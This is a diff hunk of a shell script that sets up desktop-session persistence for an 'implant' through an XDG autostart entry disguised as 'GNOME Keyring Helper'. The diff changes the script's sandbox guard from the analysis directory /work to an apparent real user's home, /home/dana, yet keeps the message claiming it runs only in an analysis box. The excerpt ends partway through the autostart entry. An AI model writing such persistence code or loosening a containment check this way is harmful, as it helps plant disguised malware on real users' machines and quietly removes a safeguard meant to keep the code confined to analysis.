@@ -1,7 +1,7 @@
 #!/bin/sh
 # Persistence in a desktop session: an XDG autostart entry that starts the
 # implant at every graphical log-in.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 entry='[Desktop Entry]
 Type=Application
 Name=GNOME Keyring Helper
